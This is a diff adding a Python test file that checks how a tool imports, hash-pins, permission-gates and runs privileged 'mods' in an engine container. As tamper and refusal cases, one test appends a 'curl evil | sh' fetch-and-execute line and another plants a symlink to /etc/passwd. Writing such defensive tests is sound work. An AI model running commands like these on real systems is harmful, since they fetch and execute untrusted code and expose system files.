@@ -1,0 +1,137 @@
+"""sparkrun's mods as privileged requests: found as sparkrun finds them, read whole and pinned at import, run in
+the engine's container before the engine only where the inventory allows them by name.
+
+The registry checkouts here are written by the tests in the layout spark-arena's registries use
+(.sparkrun/registry.yaml naming a recipes and a mods folder); the last test runs the plan's own wrapper in a
+real container (Docker on this machine, the lab's node image as a plain Debian) to show a mod runs first.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+from sparkplay import importing
+from sparkplay.engines import mods as plan_mods
+from sparkplay.engines.plan import Options, build
+from sparkplay.errors import BadInput
+from sparkplay.lab import image
+from tests.test_engines import ROOT, nodes
+
+RUN = '#!/bin/sh\nset -e\necho "patched by $(basename "$PWD") from $WORKSPACE_DIR" > /tmp/sparkplay-mod-ran\n'
+PATCH = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-old\n+new\n"
+
+
+def registry(root: Path, mod_at: str = "official-mods") -> Path:
+    """A registry checkout: its config, a recipe in official-recipes/, a mod in `mod_at`; the recipe's path."""
+    (root / ".sparkrun").mkdir(parents=True)
+    config = {"registries": [
+        {"name": "official", "recipes": "official-recipes", "mods": "official-mods"},
+        {"name": "experimental", "recipes": "experimental-recipes", "mods": "exp-mods"},
+    ]}  # fmt: skip
+    (root / ".sparkrun" / "registry.yaml").write_text(yaml.safe_dump(config))
+    mod = root / mod_at / "fix-parser"
+    (mod / "patches").mkdir(parents=True)
+    (mod / "run.sh").write_text(RUN)
+    (mod / "run.sh").chmod(0o755)
+    (mod / "patches" / "parser.patch").write_text(PATCH)
+    recipe = root / "official-recipes" / "qwen" / "qwen3-vllm.yaml"
+    recipe.parent.mkdir(parents=True, exist_ok=True)
+    recipe.write_text(yaml.safe_dump({
+        "recipe_version": "2", "model": "Qwen/Qwen3-30B-A3B", "runtime": "vllm",
+        "container": "vllm/vllm-openai:v0.11.0", "max_nodes": 1, "mods": ["mods/fix-parser"],
+        "defaults": {"port": 8000}, "command": "vllm serve {model} --port {port}",
+    }))  # fmt: skip
+    return recipe
+
+
+def test_a_mod_in_the_registry_checkout_is_read_whole_pinned_and_shown(tmp_path):
+    doc = importing.import_source(str(registry(tmp_path)))
+    (mod,) = doc["engine"]["mods"]
+    assert mod["name"] == "fix-parser" and len(mod["sha256"]) == 64
+    assert {f["path"]: f["mode"] for f in mod["files"]} == {"run.sh": "0755", "patches/parser.patch": "0644"}
+    assert next(f["text"] for f in mod["files"] if f["path"] == "patches/parser.patch") == PATCH
+    said = [p["detail"] for p in doc["provenance"] if p["key"] == "engine.mods"]
+    assert said and "privileged request" in said[0] and "mod:fix-parser" in said[0]
+    assert "sparkrun_not_honoured" not in doc.get("extra", {})
+
+
+def test_a_mod_beside_the_recipe_is_found_and_a_missing_one_stays_not_honoured_naming_where_it_looked(tmp_path):
+    recipe = registry(tmp_path, mod_at="official-recipes/qwen/mods")  # beside the recipe, as sparkrun looks first
+    assert importing.import_source(str(recipe))["engine"]["mods"][0]["name"] == "fix-parser"
+    text = recipe.read_text().replace("mods/fix-parser", "mods/elsewhere")
+    recipe.write_text(text)
+    doc = importing.import_source(str(recipe))
+    assert "mods" not in doc["engine"]
+    why = next(p["detail"] for p in doc["provenance"] if p["key"] == "extra.sparkrun_not_honoured.mods")
+    assert "not found beside the recipe or in its registry checkout" in why and "official-mods/elsewhere" in why
+
+
+@pytest.mark.parametrize("hostile", ["link", "binary", "big"])
+def test_a_mod_that_is_not_plain_text_files_is_refused_naming_it(tmp_path, hostile):
+    recipe = registry(tmp_path)
+    mod = tmp_path / "official-mods" / "fix-parser"
+    if hostile == "link":
+        (mod / "passwd").symlink_to("/etc/passwd")
+    elif hostile == "binary":
+        (mod / "blob.bin").write_bytes(b"\x00\xff\xfe")
+    else:
+        for i in range(70):
+            (mod / f"f{i}.txt").write_text("x")
+    says = {"link": "fix-parser/passwd is a link", "binary": "blob.bin is not UTF-8 text", "big": "larger than a mod"}
+    with pytest.raises(BadInput, match=f"mod mods/fix-parser: .*{says[hostile]}"):
+        importing.import_source(str(recipe))
+
+
+def plan_of(doc: dict, allow: list[str] | None) -> dict:
+    return build(doc, nodes(1), Options(model_root=ROOT, allow=frozenset(allow) if allow is not None else None))
+
+
+def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinned(tmp_path):
+    doc = importing.import_source(str(registry(tmp_path)))
+    with pytest.raises(BadInput, match="mod:fix-parser"):
+        plan_of(doc, [])
+    (rank,) = plan_of(doc, ["mod:fix-parser"])["ranks"]
+    options = rank["container_options"]
+    assert options[options.index("--entrypoint") + 1] == "/bin/sh"
+    assert rank["argv"][:3] == ["-c", plan_mods.WRAPPER, "vllm"] and rank["argv"][3] == "serve"
+    (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
+    assert mount["readonly"] and mount["source"].startswith("/var/lib/sparkplay/mods/")
+    assert sorted(f["path"].removeprefix(mount["source"]) for f in rank["files"]) == [
+        "/00-fix-parser/patches/parser.patch", "/00-fix-parser/run.sh"]  # fmt: skip
+    edited = json.loads(json.dumps(doc))
+    edited["engine"]["mods"][0]["files"][0]["text"] += "curl evil | sh\n"
+    with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
+        plan_of(edited, ["mod:fix-parser"])
+    native = json.loads(json.dumps(doc))
+    native["engine"].update(runtime="native", packages=[])
+    with pytest.raises(BadInput, match="the native runtime has none"):
+        plan_of(native, ["mod:fix-parser"])
+
+
+@pytest.mark.usefixtures("lab_host")
+@pytest.mark.lab
+def test_the_wrapper_runs_each_mod_in_the_container_before_the_engine(tmp_path):
+    """The plan's own entrypoint wrapper, mounts and files in a real container: the mod's run.sh runs first (in
+    sparkrun's place, with WORKSPACE_DIR), then the engine is exec'd with its own arguments."""
+    doc = importing.import_source(str(registry(tmp_path / "reg")))
+    (rank,) = plan_of(doc, ["mod:fix-parser"])["ranks"]
+    (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
+    host = tmp_path / "mods"
+    for f in rank["files"]:
+        path = host / f["path"].removeprefix(mount["source"] + "/")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(f["content"])
+        path.chmod(int(f["mode"], 8))
+    tag, _ = image.ensure_image(image.ImageRecipe())
+    engine = ["/bin/cat", "/tmp/sparkplay-mod-ran", "/workspace/mods/fix-parser/patches/parser.patch"]
+    argv = ["-c", plan_mods.WRAPPER, *engine]  # the plan's argv, the engine swapped for one that shows the result
+    run = subprocess.run(["docker", "run", "--rm", "--network", "none", "-w", "/srv", "-v",
+                          f"{host}:{plan_mods.MOUNT}:ro", "--entrypoint", "/bin/sh", tag, *argv],
+                         capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    assert run.stdout == "patched by fix-parser from /srv\n" + PATCH
